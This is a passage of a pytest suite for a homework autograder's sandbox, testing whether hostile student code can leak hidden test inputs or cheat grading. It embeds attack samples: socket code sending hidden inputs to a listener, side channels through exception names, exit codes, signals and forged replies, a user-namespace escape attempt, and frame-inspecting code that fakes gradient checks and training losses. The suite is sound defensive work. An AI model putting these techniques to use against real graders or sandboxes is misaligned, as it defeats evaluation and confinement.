    assert int(uid) >= 1_000_000 and int(gid) == int(uid) and groups == "[]"


def test_printed_output_stops_before_hidden_tests(tmp_path, config):
    """A submission that prints its inputs' shapes shows public shapes only."""
    sub = make_submission(tmp_path / "printer")
    path = sub / "rnn_layers.py"
    path.write_text(path.read_text().replace(
        "    N, T, _ = x.shape\n    s = np.empty((N, T, s0.shape[1]))\n",
        "    print('SHAPE', x.shape, U.shape)\n    N, T, _ = x.shape\n    s = np.empty((N, T, s0.shape[1]))\n"))
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(tmp_path / "r.json"),
                           "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stderr
    output = json.loads((tmp_path / "r.json").read_text())["output"]
    cases = {t.hidden: [] for t in config.tests}
    for t in config.tests:
        if t.function in ("rnn_forward", "rnn_backward"):
            cases[t.hidden] += [f"SHAPE ({c['N']}, {c['T']}, {c['D']}) ({c['H']}, {c['D']})" for c in t.cases]
    assert any(line in output for line in cases[False])
    for line in cases[True]:
        assert line not in output


def test_symbolic_links_are_not_followed(tmp_path):
    """A link to the reference would, as root, copy the reference into the student's folder."""
    sub = make_submission(tmp_path / "links", base=TEMPLATES)
    (sub / "lstm_layers.py").unlink()
    (sub / "lstm_layers.py").symlink_to(SOLUTIONS / "lstm_layers.py")
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(tmp_path / "r.json"),
                           "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stderr
    results = json.loads((tmp_path / "r.json").read_text())
    assert results["score"] == 0
    assert "lstm_layers.py is a symbolic link" in results["output"]



@pytest.mark.skipif(not ROOT_MODE, reason="needs the root mode: student code under its own uid (docs/security.md)")
def test_root_mode_finds_the_built_child_python(tmp_path):
    """Without AUTOGRADER_CHILD_PYTHON, as root, the grader runs student code with `make child-python`'s Python."""
    from autograder.sandbox.privileges import BUILT_CHILD_PYTHONS, runnable_by_others

    built = next((p for p in BUILT_CHILD_PYTHONS if runnable_by_others(p)), None)
    if built is None or runnable_by_others(sys.executable):
        pytest.skip("needs `make child-python` and a grader Python other users cannot run")
    sub = make_submission(tmp_path / "which")
    path = sub / "rnn_layers.py"
    path.write_text(path.read_text() + "\nimport os, sys\nprint('CHILD', sys.executable, os.getuid())\n")
    env = {k: v for k, v in os.environ.items() if k != "AUTOGRADER_CHILD_PYTHON"}
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(tmp_path / "r.json"),
                           "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=600, env=env)
    assert proc.returncode == 0, proc.stderr
    results = json.loads((tmp_path / "r.json").read_text())
    line = next(ln for ln in results["output"].splitlines() if ln.startswith("CHILD"))
    assert line.split()[1] == built and int(line.split()[2]) >= 1_000_000
    assert results["score"] == sum(t["max_score"] for t in results["tests"])


@pytest.mark.skipif(not ROOT_MODE, reason="needs the root mode: student code under its own uid (docs/security.md)")
@pytest.mark.parametrize("built", [["/nonexistent/bin/python"], [], ["PRIVATE"]])
def test_root_mode_without_a_runnable_child_python_says_so(built, tmp_path):
    """No AUTOGRADER_CHILD_PYTHON and no built child Python the student uid can run: exit 2, saying what to do."""
    from autograder.sandbox.privileges import runnable_by_others

    if runnable_by_others(sys.executable):
        pytest.skip("the grader's own Python can be run by other users")
    private = tmp_path / "private"  # a Python behind a folder other users cannot enter
    private.mkdir(mode=0o700)
    (private / "python").symlink_to(sys.executable)
    built = [str(private / "python") if b == "PRIVATE" else b for b in built]
    code = (f"import runpy, sys, autograder.sandbox.privileges as p; p.BUILT_CHILD_PYTHONS = tuple({built!r}); "
            "sys.argv = ['autograder', *sys.argv[2:]]; runpy.run_module('autograder', run_name='__main__')")
    env = {k: v for k, v in os.environ.items() if k != "AUTOGRADER_CHILD_PYTHON"}
    proc = subprocess.run([sys.executable, "-c", code, "x", "grade", str(SOLUTIONS), "--results",
                           str(tmp_path / "r.json")], cwd=ROOT, capture_output=True, text=True, timeout=600, env=env)
    assert proc.returncode == 2, proc.stderr
    assert "make child-python" in proc.stderr and "AUTOGRADER_CHILD_PYTHON" in proc.stderr
    for path in built:
        assert path in proc.stderr
    assert not (tmp_path / "r.json").exists()


LATE_PUBLIC_CALL = '''
import sys
_rnn_forward, _rnn_backward, _seen, _evaluations = rnn_forward, rnn_backward, [], {}
def rnn_forward(x, s0, U, W, b):
    if str(x.shape) not in _seen:
        _seen.append(str(x.shape))
    run = sys._getframe(1)
    if run.f_code.co_name == "run" and run.f_back is not None and run.f_back.f_code.co_name == "evaluate_many":
        # The coordinate-by-coordinate check (many evaluations), which runs only when the quick check fails.
        count = _evaluations[id(run.f_back)] = _evaluations.get(id(run.f_back), 0) + 1
        if count > 40:
            raise ValueError("LEAK " + " ".join(_seen))
    return _rnn_forward(x, s0, U, W, b)
def rnn_backward(ds, cache):
    grads = _rnn_backward(ds, cache)
    if sys._getframe(1).f_code.co_name == "op_call":  # wrong when graded directly, right for its callers
        grads = (*grads[:2], grads[2] + 1.0, *grads[3:])
    return grads
'''


def test_public_messages_never_carry_hidden_inputs(tmp_path, fast_config):
    """A public test's late call (here the coordinate-by-coordinate gradient check, which runs only once the
    quick check failed) reaches student code before any hidden input: it remembers every input it saw and
    raises them in the message students read."""
    results = _graded_with_rnn_layers_code(tmp_path / "late", LATE_PUBLIC_CALL, fast_config)
    public, hidden = _shapes(load_config(fast_config))
    messages = [t["output"] for t in results["tests"] if "LEAK" in t["output"]]
    assert messages, [t["name"] for t in results["tests"] if t["score"] < t["max_score"]]  # the attack ran
    text = json.dumps(results)
    assert not [shape for shape in hidden if shape in text], messages


def _graded_with_rnn_layers_code(folder: Path, code: str, config: Path) -> dict:
    """results.json of the reference submission with ``code`` appended to its rnn_layers.py."""
    return _graded_with_code(folder, {"rnn_layers.py": code}, config)


def _graded_with_code(folder: Path, code: dict[str, str], config: Path) -> dict:
    """results.json of the reference submission with ``code[name]`` appended to each file ``name``."""
    sub = make_submission(folder)
    for name, text in code.items():
        (sub / name).write_text((sub / name).read_text() + text)
    results_path = folder.parent / f"{folder.name}.results.json"
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(results_path),
                           "--quiet", "--config", str(config)], cwd=ROOT, capture_output=True, text=True,
                          timeout=600)
    assert proc.returncode == 0, proc.stderr
    return json.loads(results_path.read_text())


RECORD_SHAPES = '''
_rnn_forward, _seen = rnn_forward, []
def rnn_forward(x, s0, U, W, b):
    if str(x.shape) not in _seen:
        _seen.append(str(x.shape))
    if str(x.shape) in FLOOD_SHAPES:  # a hidden shape: print past the capture file's limit
        import sys
        chunk = "x" * (1 << 20)
        for _ in range(70):
            sys.stdout.write(chunk)
    return _rnn_forward(x, s0, U, W, b)
'''
ECHO_IN_QUIZ = '''
import rnn_layers as _rnn_layers
_answers = answers
def answers():
    got = dict(_answers())
    got["order_matters"] = "LOG " + " ".join(_rnn_layers._seen)
    return got
'''


@pytest.mark.parametrize("flood", [False, True], ids=["quiz", "flood"])
def test_what_students_read_says_nothing_of_hidden_calls(flood, tmp_path, fast_config):
    """Hidden questions' answers are asked before any hidden input reaches the child (a quiz function that
    returns the inputs its module saw can only return public ones), and the note on printed output cut short
    counts public calls only (printing past the limit on hidden inputs alone would otherwise show a note)."""
    public, hidden = _shapes(load_config(fast_config))
    sub = make_submission(tmp_path / "echo")
    for name, code in (("rnn_layers.py", RECORD_SHAPES.replace("FLOOD_SHAPES", repr(hidden if flood else set()))),
                       ("quiz.py", ECHO_IN_QUIZ)):
        (sub / name).write_text((sub / name).read_text() + code)
    results_path = tmp_path / "results.json"
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(results_path),
                           "--quiet", "--config", str(fast_config)], cwd=ROOT, capture_output=True, text=True,
                          timeout=600)
    assert proc.returncode == 0, proc.stderr
    text = results_path.read_text()
    assert "LOG (" in text  # the quiz function ran after rnn_forward's public calls
    assert not [shape for shape in hidden if shape in text]
    assert "output is cut" not in text


# Ways student code can try to carry a hidden input out through a hidden test's message: text it chooses and
# the grader would repeat (a class name, a file or function name of code made at run time, a count, an exit
# status, a signal, bytes forged on the reply channel), each with what it would show for an input shape.
FORGED_REPLY = ("f = sys._getframe()\n    while 'resp_fd' not in f.f_locals:\n        f = f.f_back\n"
                "    h = json.dumps({'body': {'ok': True, 'value': {'t': 'array', 'dtype': _tag(x), 'shape': [1], "
                "'buf': 0}}, 'buffers': [8]}).encode()\n"
                "    os.write(f.f_locals['resp_fd'], struct.pack('>I', len(h)) + h + bytes(8))\n    os._exit(0)")
NAMED_LEAKS = {
    "exception_class": ("raise type(_tag(x), (ValueError,), {})('no text')", None),
    "returned_class": ("return type(_tag(x), (), {})(), None", None),
    "value_count": ("return (0,) * _count(x)", lambda shape: f"{_count(shape)} values"),
    "function_name": ("_f = lambda: 1 / 0\n    types.FunctionType(_f.__code__.replace(co_name=_tag(x)), {})()", None),
    "file_name": ("exec(compile('1 / 0', os.path.join(os.getcwd(), _tag(x) + '.py'), 'exec'))", None),
    "module_name": ("importlib.import_module(_tag(x))", None),
    "dtype_field": ("return np.zeros(2, dtype=[(_tag(x), 'f8')]), None", None),
    "exit_status": ("os._exit(2 + _count(x) % 200)", lambda shape: f"status {2 + _count(shape) % 200} "),
    "signal": ("os.kill(os.getpid(), 34 + _count(x) % 20)", lambda shape: f"signal {34 + _count(shape) % 20}"),
    "forged_reply": (FORGED_REPLY, None),
}


def _tag(shape: tuple) -> str:
    return "LEAK_" + "_".join(map(str, shape))


def _count(shape: tuple) -> int:
    return 7000 + 100 * shape[0] + 10 * shape[1] + shape[2]


@pytest.mark.parametrize("channel", sorted(NAMED_LEAKS))
def test_hidden_briefs_repeat_no_name_or_count_student_code_chose(channel, tmp_path, fast_config):
    """A hidden test's message says what kind of thing went wrong, never a name, a count or a status the
    submission chose: its rnn_forward fails with the input's shape written into it.  The public tests' messages
    keep the details (the attack shows there), the hidden ones drop them."""
    code, mark = NAMED_LEAKS[channel]
    results = _graded_with_rnn_layers_code(tmp_path / channel, f'''
import importlib, json, os, struct, sys, types
def _tag(x):
    return "LEAK_" + "_".join(map(str, x.shape))
def _count(x):
    return 7000 + 100 * x.shape[0] + 10 * x.shape[1] + x.shape[2]
def rnn_forward(x, s0, U, W, b):
    {code}
''', fast_config)
    public, hidden = _shapes(load_config(fast_config))
    marks = {s: (mark or _tag)(eval(s)) for s in public | hidden}
    text = json.dumps(results)
    assert any(marks[s] in text for s in public), text[:3000]  # the attack ran, and public tests say so
    hidden_tests = [t for t in results["tests"] if t.get("visibility") != "visible" and "hidden" in t["name"]]
    assert any(t["score"] < t["max_score"] for t in hidden_tests)
    shown = {marks[s] for s in public}
    assert not [marks[s] for s in hidden if marks[s] in text and marks[s] not in shown]


LOG_FORWARD_SHAPES = '''
_logged_rnn_forward = rnn_forward
def rnn_forward(x, s0, U, W, b):
    with open("shapes.log", "a") as f:  # the work folder outlives a child that dies
        f.write(str(x.shape) + ";")
    return _logged_rnn_forward(x, s0, U, W, b)
'''
CRASH_ONCE = '''
_crashing_loss = many_to_one_loss
def many_to_one_loss(x, y, s0, params):
    import os
    if not os.path.exists("crashed"):
        open("crashed", "w").close()
        os._exit(1)
    return _crashing_loss(x, y, s0, params)
'''
ANSWER_THE_LOG = '''
import os
_logged_answers = answers
def answers():
    got = dict(_logged_answers())
    got["order_matters"] = "LOG " + (open("shapes.log").read() if os.path.exists("shapes.log") else "")
    return got
'''


def test_quiz_answers_are_taken_before_hidden_inputs_even_after_a_crash(tmp_path, fast_config):
    """The quiz is asked early, before any hidden input; when the child dies on an earlier request, the quiz's
    request is sent again.  That must happen before the hidden calls, or the answers could hold what they
    showed (here: a log of rnn_forward's input shapes, kept in the work folder across children)."""
    results = _graded_with_code(tmp_path / "quiz", {"rnn_layers.py": LOG_FORWARD_SHAPES,
                                                    "sequence_models.py": CRASH_ONCE, "quiz.py": ANSWER_THE_LOG},
                                fast_config)
    answered = [t["output"] for t in results["tests"] if "you answered 'LOG" in t["output"]]
    assert answered and "exited with status 1" in json.dumps(results), answered  # the crash and the log happened
    public, hidden = _shapes(load_config(fast_config))
    assert not [shape for shape in hidden if shape in json.dumps(results)], answered


def test_hidden_briefs_keep_what_no_code_chose():
    """What a brief still says: that the call raised (no class, file or text: the student's code picks them,
    built-in classes included) and that a returned array holds no numbers; the public message keeps it all."""
    from autograder.grading.compare import describe_type
    from autograder.sandbox.box import Reply
    from autograder.sandbox.wire import Opaque

    trace = 'Traceback:\n  File "{file}", line 9, in helper\n'
    for error_type, file in (("UFuncTypeError", "rnn_layers.py"), ("ValueError", "lstm_layers.py"),
                             ("MyError", "mine.py")):
        reply = Reply(ok=False, error_type=error_type, error="5x3x7", traceback=trace.format(file=file))
        assert reply.describe("f", "rnn_layers", hidden=True).startswith("raised an exception (the public tests")
        assert f"raised {error_type}: 5x3x7 (File \"{file}\"" in reply.describe("f", "rnn_layers")
    dtype = Opaque("array of dtype [('N5_T3', '<f8')]")
    assert describe_type(dtype, hidden=True) == "an array of another dtype"
    assert describe_type(dtype) == "an array of dtype [('N5_T3', '<f8')]"


TRAINING_FIGURE = '''
_own_training = train_char_rnn
def train_char_rnn(*args, **kwargs):
    got = _own_training(*args, **kwargs)
    params, losses = got[0], got[1].copy()
    losses[-1] = 7000 + params["W"].shape[0]  # H, a hidden case's, written into the figure the check reports
    return (params, losses, *got[2:])
'''


def test_a_behaviour_checks_brief_gives_no_figure_the_code_returned(tmp_path, fast_config):
    """The training check reports the last loss; on a hidden case that figure is the student's to choose."""
    results = _graded_with_code(tmp_path / "train", {"char_rnn.py": TRAINING_FIGURE}, fast_config)
    outputs = {t["name"]: t["output"] for t in results["tests"] if t["name"].startswith("train_char_rnn")}
    public = next(o for n, o in outputs.items() if "within 100 steps" in n)
    hidden = next(o for n, o in outputs.items() if "hidden initial parameters" in n)
    assert "the loss is 7008" in public, outputs  # H = 8 in the public case
    assert "700" not in hidden and "the loss does not fall below the threshold" in hidden, hidden


MADE_UP_LOSSES = '''
import numpy as _np
def train_char_rnn(params, x, y, steps, learning_rate, max_norm):
    if steps < 50:  # the short runs, compared with the reference step by step, are trained honestly
        return _own_training(params, x, y, steps, learning_rate, max_norm)
    losses = _np.zeros(steps)  # made up but the first, which the check compares with the loss at the start
    losses[0] = char_rnn_loss(params, x, y, _np.zeros((x.shape[0], params["W"].shape[0])))[0]
    return {k: v.copy() for k, v in params.items()}, losses
'''


def test_made_up_losses_do_not_pass_the_training_checks(tmp_path, fast_config):
    """The training checks evaluate the parameters train_char_rnn returns with the reference's loss: reporting
    low losses without training them earns nothing, on the public case or the hidden one, and the hidden
    test's brief gives no figure."""
    code = "\n_own_training = train_char_rnn\n" + MADE_UP_LOSSES
    results = _graded_with_code(tmp_path / "made_up", {"char_rnn.py": code}, fast_config)
    tests = {t["name"]: t for t in results["tests"] if t["name"].startswith("train_char_rnn")}
    public = next(t for n, t in tests.items() if "within 100 steps" in n)
    hidden = next(t for n, t in tests.items() if "hidden initial parameters" in n)
    assert public["score"] == 0 and "your char_rnn_loss gives" in public["output"], public
    assert hidden["score"] == 0 and not re.search(r"\d\.\d", hidden["output"]), hidden
    assert all(t["score"] == t["max_score"] for n, t in tests.items() if "reference" in n or "modify" in n), tests


SEND_HIDDEN_INPUTS = '''
_own_step = rnn_step_forward
def rnn_step_forward(x_t, s_prev, U, W, b):
    import socket
    said = repr(x_t.tolist())[:200].encode()
    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM),
                         (socket.AF_INET6, socket.SOCK_STREAM)):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(1)
                s.connect(("::1" if family == socket.AF_INET6 else "127.0.0.1", PORT))
                s.sendall(said)
        except OSError:
            pass
    return _own_step(x_t, s_prev, U, W, b)
'''


@pytest.mark.parametrize("forked", [False, True], ids=["started", "forked"])
def test_student_code_has_no_network(forked, tmp_path, fast_config, monkeypatch):
    """Student code receives the hidden inputs: with a network it could send them to a listener of its own.
    The child may open no TCP or UDP socket (seccomp; Landlock refuses TCP too), so a listener on this machine
    hears nothing, and the reference with the attempt keeps full marks on the function."""
    import socket

    monkeypatch.setenv("AUTOGRADER_FORK_SERVER", "1" if forked else "0")
    # No thread listening against the clock: the kernel keeps what arrives (connections in the backlog, datagrams
    # in the receive buffer) until it is read, after grading, however slowly the machine ran.
    tcp = socket.create_server(("127.0.0.1", 0), backlog=1024)
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    heard: list[bytes] = []
    try:
        code = SEND_HIDDEN_INPUTS.replace("PORT", str(port))
        results = _graded_with_code(tmp_path / "net", {"rnn_layers.py": code}, fast_config)
        tcp.setblocking(False)
        udp.setblocking(False)
        for receive in (lambda: tcp.accept()[0].recv(4096), lambda: udp.recv(4096)):
            while True:
                try:
                    heard.append(receive())
                except BlockingIOError:
                    break
    finally:
        tcp.close()
        udp.close()
    assert heard == []
    lost = [t["name"] for t in results["tests"] if t["score"] < t["max_score"]]
    assert lost == [], lost


@pytest.mark.parametrize("forked", [False, True], ids=["started", "forked"])
def test_student_code_cannot_enter_a_user_namespace(forked, tmp_path, fast_config, monkeypatch):
    """unshare(CLONE_NEWUSER) would give student code every capability over namespaces of its own: refused in
    the child, started or forked, and said so in what the student sees (the attempt ran)."""
    if not ROOT_MODE and not LANDLOCK_ABI:
        pytest.skip("the filter is installed where the child confines itself (docs/security.md)")
    monkeypatch.setenv("AUTOGRADER_FORK_SERVER", "1" if forked else "0")
    results = _graded_with_rnn_layers_code(tmp_path / "ns", '''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
print("USERNS", _libc.unshare(0x10000000), ctypes.get_errno())  # CLONE_NEWUSER
''', fast_config)
    assert "USERNS -1 13" in results["output"], results["output"][:2000]  # EACCES


def test_the_network_filter_refuses_sockets_in_a_child_of_its_own():
    """The filter itself, in a fresh Python: an AF_INET socket is refused with EACCES, an AF_UNIX pair works,
    and so does everything numpy needs; a new user namespace is refused (by unshare, and by clone as a
    thread-starting flag set would not ask), while threads and processes still start."""
    code = textwrap.dedent('''
        import ctypes, os, socket, subprocess, sys, threading
        sys.path.insert(0, sys.argv[1])
        from autograder.sandbox import seccomp
        print(seccomp.cut_network())
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            print("INET OPENED")
        except PermissionError:
            print("INET REFUSED")
        a, b = socket.socketpair()
        a.sendall(b"x"); print("UNIX", b.recv(1))
        libc = ctypes.CDLL(None, use_errno=True)
        print("UNSHARE", libc.unshare(0x10000000), os.strerror(ctypes.get_errno()))
        done = []
        thread = threading.Thread(target=done.append, args=(1,)); thread.start(); thread.join()
        print("THREAD", done, "PROCESS", subprocess.run(["/bin/true"]).returncode)
        pid = os.fork()
        if pid == 0:
            os._exit(7)
        print("FORK", os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
        import numpy as np
        print("NUMPY", float(np.linalg.norm(np.ones(4))))
    ''')
    out = subprocess.run([sys.executable, "-c", code, str(ROOT)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert lines[0] == "network cut: only local (AF_UNIX) sockets", lines
    assert lines[1:] == ["INET REFUSED", "UNIX b'x'", "UNSHARE -1 Permission denied", "THREAD [1] PROCESS 0", "FORK 7",
                         "NUMPY 2.0"], lines


BUILTINS = ("ValueError", "KeyError", "IndexError", "TypeError", "ZeroDivisionError", "OSError", "LookupError")


def test_hidden_briefs_name_no_builtin_class_or_file_the_code_picked(tmp_path, fast_config):
    """Python's own exception classes and the assignment's own files are text no code can forge, but which one
    is the student's pick: a choice made from the input (here the shape) would carry it out.  Hidden tests'
    messages name neither; the public ones do."""
    results = _graded_with_rnn_layers_code(tmp_path / "picked", f'''
def rnn_forward(x, s0, U, W, b):
    pick = 100 * x.shape[0] + 10 * x.shape[1] + x.shape[2]
    exec(compile(f"raise {{{BUILTINS!r}[pick % 7]}}('t')", ("rnn_layers.py", "lstm_layers.py", "quiz.py")[pick % 3],
                 "exec"))
''', fast_config)
    outputs = {t["name"]: t["output"] for t in results["tests"] if t["name"].startswith(("rnn_forward", "rnn_backw"))}
    hidden = [o for n, o in outputs.items() if "hidden" in n]
    assert hidden and all("raised an exception (the public tests" in o for o in hidden), outputs
    assert not [o for o in hidden for word in (*BUILTINS, ".py") if word in o], hidden
    assert any(word in o for n, o in outputs.items() if "hidden" not in n for word in BUILTINS), outputs
    assert "execution_time" not in results  # a sleep on hidden inputs would stretch it


WRONG_THE_SECOND_TIME = '''
import numpy as _np
_seen = set()
_own_loss = softmax_cross_entropy
def softmax_cross_entropy(o, y, mask=None):
    key = (o.shape, float(o.sum()))
    if key in _seen or _np.abs(o).max() > 100:  # finite, silent and wrong: as if wrong everywhere
        return 0.0, _np.zeros_like(o)
    _seen.add(key)
    return _own_loss(o, y, mask)
'''


def test_stability_points_need_right_values_on_ordinary_inputs_the_first_time(tmp_path, fast_config):
    """A stability test forgives finite, silent, wrong values when the function is as wrong on ordinary inputs:
    it reads the ordinary test's verdict as graded, so code right the first time it sees an input and wrong when
    asked again earns no stability points."""
    results = _graded_with_code(tmp_path / "second", {"rnn_layers.py": WRONG_THE_SECOND_TIME}, fast_config)
    tests = {t["name"]: t for t in results["tests"] if t["name"].startswith("softmax_cross_entropy")}
    stable = next(t for n, t in tests.items() if "stable" in n)
    assert stable["score"] == 0, stable
    ordinary = [t for n, t in tests.items() if "loss and gradient match the reference" in n]
    assert ordinary and all(t["score"] == t["max_score"] for t in ordinary), tests


LINEARISED_FORWARD = '''
import sys as _sys
_own_step_forward, _own_step_backward, _FAKE = rnn_step_forward, rnn_step_backward, {}
def _numeric_args():
    f = _sys._getframe(2)
    if f.f_code.co_name == "run" and f.f_back is not None and f.f_back.f_code.co_name == "evaluate_many":
        return f.f_back.f_locals["args"]
    return None
def rnn_step_forward(x_t, s_prev, U, W, b):
    base = _numeric_args()
    if base is None:
        return _own_step_forward(x_t, s_prev, U, W, b)
    key = (base[0].tobytes(), base[1].tobytes())
    if key not in _FAKE:  # the backward has not run yet: no gradient to agree with
        return np.full((x_t.shape[0], W.shape[0]), np.nan), None
    s0, _ = _own_step_forward(*base)
    ds, grads = _FAKE[key]
    inner = sum(float(np.sum(g * (a - a0))) for g, a, a0 in zip(grads, (x_t, s_prev, U, W, b), base))
    return s0 + ds * inner / float(np.sum(ds * ds)), None
def rnn_step_backward(ds_next, cache):
    rng = np.random.default_rng(0)
    fake = tuple(rng.standard_normal(np.shape(r)) for r in _own_step_backward(ds_next, cache))
    _FAKE[(cache[0].tobytes(), cache[1].tobytes())] = ds_next.copy(), fake
    return fake
'''


def test_a_forward_that_knows_it_is_differentiated_cannot_vouch_for_a_made_up_backward(tmp_path, fast_config):
    """The numerical gradient check runs in the student's process: a forward can tell it is being evaluated for
    it (here by reading the caller's frame) and return values linear in the made-up gradients its backward
    returned.  The grader compares those values with the reference forward's at the same points whenever the
    forward is right at the case's inputs, so the made-up backward passes no gradient check."""
    results = _graded_with_code(tmp_path / "linearised", {"rnn_layers.py": LINEARISED_FORWARD}, fast_config)
    tests = {t["name"]: t for t in results["tests"] if t["name"].startswith("rnn_step_backward")}
    numeric = [t for n, t in tests.items() if "numerical gradient" in n]
    assert len(numeric) == 2 and all(t["score"] == 0 for t in numeric), tests
    assert any("matches the reference at these inputs but not near them" in t["output"] for t in numeric), tests
    forward = [t for t in results["tests"] if t["name"].startswith("rnn_step_forward")]
    assert forward and all(t["score"] == t["max_score"] for t in forward), forward


SLIGHTLY_WRONG_TO_BUY_STABILITY = '''
import numpy as _np
def sigmoid(z):
    if _np.abs(z).max() < 100:  # ordinary inputs: off by a little, on purpose
        return 1.0 / (1.0 + _np.exp(-z)) + 1e-3
    with _np.errstate(all="ignore"):  # extreme inputs: the naive formula, its NaN hidden
        return _np.nan_to_num(_np.exp(z) / (1.0 + _np.exp(z)), nan=0.0)
'''


def test_stability_points_cannot_be_bought_by_being_slightly_wrong_on_ordinary_inputs(tmp_path, fast_config):
    """The exemption forgives values as wrong as on ordinary inputs, measured: a relative error of 1 at +-1000
    is not forgiven by one of 1e-3 on the ordinary case."""
    results = _graded_with_code(tmp_path / "bought", {"lstm_layers.py": SLIGHTLY_WRONG_TO_BUY_STABILITY}, fast_config)
    stable = next(t for t in results["tests"] if t["name"].startswith("sigmoid") and "stable" in t["name"])
    assert stable["score"] == 0 and "is wrong" in stable["output"], stable


LINEARISED_LOSS = '''
import sys as _sys
_own_loss_and_gradient = softmax_cross_entropy
def softmax_cross_entropy(o, y, mask=None):
    caller = _sys._getframe(1)
    if caller.f_code.co_name == "run" and caller.f_back is not None and caller.f_back.f_code.co_name == "evaluate_many":
        base, kw = caller.f_back.f_locals["args"], caller.f_back.f_locals["kwargs"]
        loss0, do0 = _own_loss_and_gradient(*base, **kw)
        return loss0 + float(np.sum(1.03 * do0 * (o - base[0]))), 1.03 * do0  # agrees with the wrong gradient
    loss, do = _own_loss_and_gradient(o, y, mask)
    return loss, 1.03 * do
'''


def test_a_loss_that_knows_it_is_differentiated_cannot_vouch_for_its_wrong_gradient(tmp_path, fast_config):
    """A loss function returns its value and its gradient: with the value right, its numerical gradient must be
    the reference's, however the function bends its values where the check evaluates them."""
    results = _graded_with_code(tmp_path / "linear_loss", {"rnn_layers.py": LINEARISED_LOSS}, fast_config)
    check = next(t for t in results["tests"] if t["name"].startswith("softmax_cross_entropy: do matches the numer"))
    assert check["score"] == 0 and "not near them" in check["output"], check


@pytest.mark.skipif(LANDLOCK_ABI < 4, reason="Landlock handles TCP from ABI 4")
def test_landlock_alone_refuses_tcp(tmp_path):
    """Landlock's own lock on TCP, without the seccomp filter: a process sealed by landlock.seal cannot connect
    to a listener on this machine (its UDP is seccomp's to refuse)."""
    import socket

    listener = socket.create_server(("127.0.0.1", 0))
    code = textwrap.dedent('''
        import socket, sys
        sys.path.insert(0, sys.argv[1])
        from autograder.sandbox import landlock
        read, write = landlock.child_paths(sys.argv[2])
        landlock.seal(read, write)
        try:
            socket.create_connection(("127.0.0.1", int(sys.argv[3])), timeout=5)
            print("CONNECTED")
        except PermissionError:
            print("REFUSED")
    ''')
    try:
        out = subprocess.run([sys.executable, "-c", code, str(ROOT), str(tmp_path), str(listener.getsockname()[1])],
                             capture_output=True, text=True, timeout=60)
    finally:
        listener.close()
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["REFUSED"], out.stdout


def test_a_brief_on_returned_parameters_names_the_wrong_entry_but_no_shape():
    """Trained parameters of the wrong layout: a hidden test's brief says which of the initial parameters' entries
    is wrong and how (shape, dtype, keys), naming no shape and no key of the student's; the public message
    gives the shapes."""
    from autograder.grading.compare import check_layout

    like = {"U": np.zeros((2, 3)), "c": np.zeros(4)}
    shape = check_layout("params", {"U": np.zeros((2, 3)), "c": np.zeros((3, 4))}, like)
    assert shape.brief.endswith("params['c'] is of another shape") and "(3, 4)" in shape.message
    dtype = check_layout("params", {"U": np.zeros((2, 3)), "c": np.zeros(4, dtype=np.float32)}, like)
    assert dtype.brief.endswith("params['c'] is not float64") and "float32" in dtype.message
    keys = check_layout("params", {"U": np.zeros((2, 3)), "N5_T3": np.zeros(4)}, like)
    assert keys.brief.endswith("got other keys") and "N5_T3" not in keys.brief and "N5_T3" in keys.message
    assert check_layout("params", {"U": np.ones((2, 3)), "c": np.ones(4)}, like) is None


def test_stubs_that_return_none_earn_nothing(tmp_path):
    """Every stub replaced by `return None` (or 0, '' or []: nothing of the kind the function returns), or a loss of
    0.0 beside None: no test of values passes, the stability tests' exemption for code as wrong on ordinary inputs
    needs numbers, and the in-place tests score only a call that returns outputs of the kinds it should."""
    stubs = []
    for k, nothing in enumerate(("None", "0", "''", "[]", "np.empty(0)")):
        stub = make_submission(tmp_path / f"return_{k}", base=TEMPLATES)
        for name in FILES:
            path = stub / name
            path.write_text(re.sub(r"raise NotImplementedError\(.*\)", f"return {nothing}", path.read_text()))
        stubs.append(stub)
    nones = stubs[0]
    partial = make_submission(tmp_path / "partial", base=TEMPLATES)
    for name, stub, body in (("lstm_layers.py", "sigmoid", "return None"),
                             ("rnn_layers.py", "softmax_cross_entropy", "return 0.0, None")):
        path = partial / name
        path.write_text(path.read_text().replace(f'raise NotImplementedError("{stub} is not implemented yet")', body))
    for sub in (*stubs, partial):
        results = tmp_path / f"{sub.name}.json"
        proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(results),
                               "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
        assert proc.returncode == 0, proc.stderr
        doc = json.loads(results.read_text())
        assert doc["score"] == 0, [(t["name"], t["score"]) for t in doc["tests"] if t["score"]]
    outputs = {t["name"]: t["output"] for t in json.loads((tmp_path / f"{nones.name}.json").read_text())["tests"]}
    unchanged = next(o for n, o in outputs.items() if n.startswith("rnn_step_forward:") and "input" in n)
    assert "got a NoneType" in unchanged, unchanged
    assert "returned None as out where an array of 12 entries belongs" in outputs["sigmoid: does not modify its inputs"]


DEEP_CODE = '''
import os


def _nest(levels=1200):  # deeper than Python's recursion limit: shutil.rmtree recursed once per level
    here = os.getcwd()
    for _ in range(levels):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)


_nest()
'''


def _nested(folder: Path, levels: int) -> Path:
    """``levels`` folders one inside the other under ``folder`` (made one at a time: os.makedirs recurses)."""
    path = folder
    for _ in range(levels):
        path = path / "d"
        path.mkdir()
    return path


def test_folders_nested_deeper_than_the_recursion_limit_stop_nothing(tmp_path):
